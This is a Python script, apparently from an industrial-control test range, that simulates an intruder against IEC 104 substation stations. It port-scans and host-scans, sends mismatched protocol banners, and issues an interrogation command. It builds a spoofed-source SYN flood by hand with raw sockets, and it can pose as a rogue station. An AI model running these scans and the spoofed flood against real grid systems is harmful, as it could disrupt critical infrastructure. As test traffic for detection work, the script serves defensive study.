"""Who is there, and what do they speak? `scans.py intruder|elsewhere`.

`intruder` tries ports and hosts, fills a station's queue of connections, and says the wrong things at the right ports; `elsewhere`
answers as a station at a port where none is expected. Every loop is bounded.
"""

import socket
import struct
import sys
import time

import plan
from injection import Link, checksum

HERE, PORT = plan.STATIONS["south"][0], 2405
NORTH, EAST, SOUTH = (ip for ip, _ in plan.STATIONS.values())
SPOOFED = "10.20.0.77"  # nobody: what it is answered is lost
HALF_OPEN = 120


def scan_ports(ip: str) -> None:
    for port in (*range(20, 40), 80, 102, 443, 502, 2404, 20000):
        touch(ip, port)


def scan_hosts(port: int) -> None:
    for ip in (NORTH, EAST, SOUTH, plan.BROKER, "10.20.0.30", "10.20.0.31", "10.40.12.11", "10.40.12.12"):
        touch(ip, port)


def touch(ip: str, port: int) -> None:
    try:
        socket.create_connection((ip, port), timeout=1).close()
    except OSError:
        pass


def half_open(ip: str) -> None:
    """SYN after SYN, from an address that is nobody's."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ends = socket.inet_aton(SPOOFED) + socket.inet_aton(ip)
    for number in range(HALF_OPEN):
        segment = struct.pack(">HHIIBBHHH", 20000 + number, plan.IEC104_PORT, number, 0, 0x50, 2, 1024, 0, 0)
        pseudo_header = ends + struct.pack(">HH", socket.IPPROTO_TCP, len(segment))
        segment = segment[:16] + checksum(pseudo_header + segment) + segment[18:]
        head = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + ends
        raw.sendto(head + segment, (ip, 0))
        time.sleep(0.005)


def wrong_words() -> None:
    request = b"GET / HTTP/1.1\r\nHost: north\r\n\r\n"
    for ip, octets in ((NORTH, request), (EAST, b"SSH-2.0-OpenSSH_9.2\r\n")):
        with socket.create_connection((ip, plan.IEC104_PORT), timeout=1) as link:
            link.sendall(octets)
            try:
                link.recv(99)
            except OSError:
                pass


def attack() -> None:
    scan_ports(NORTH)
    scan_hosts(plan.MQTT_PORT)
    wrong_words()
    link = Link(HERE, PORT)
    link.ask(100, 31, 0, bytes((20,)))
    link.close()
    half_open(EAST)


def serve() -> None:
    """Confirms a start and an interrogation, and no more."""
    with socket.create_server((HERE, PORT)) as server:
        link, _peer = server.accept()
        link.recv(6)
        link.sendall(bytes.fromhex("68040b000000"))
        asked = link.recv(99)
        link.sendall(b"\x68\x0e\0\0\2\0" + asked[6:8] + b"\7" + asked[9:])
        while link.recv(99):
            pass


if __name__ == "__main__":
    {"intruder": attack, "elsewhere": serve}[sys.argv[1]]()
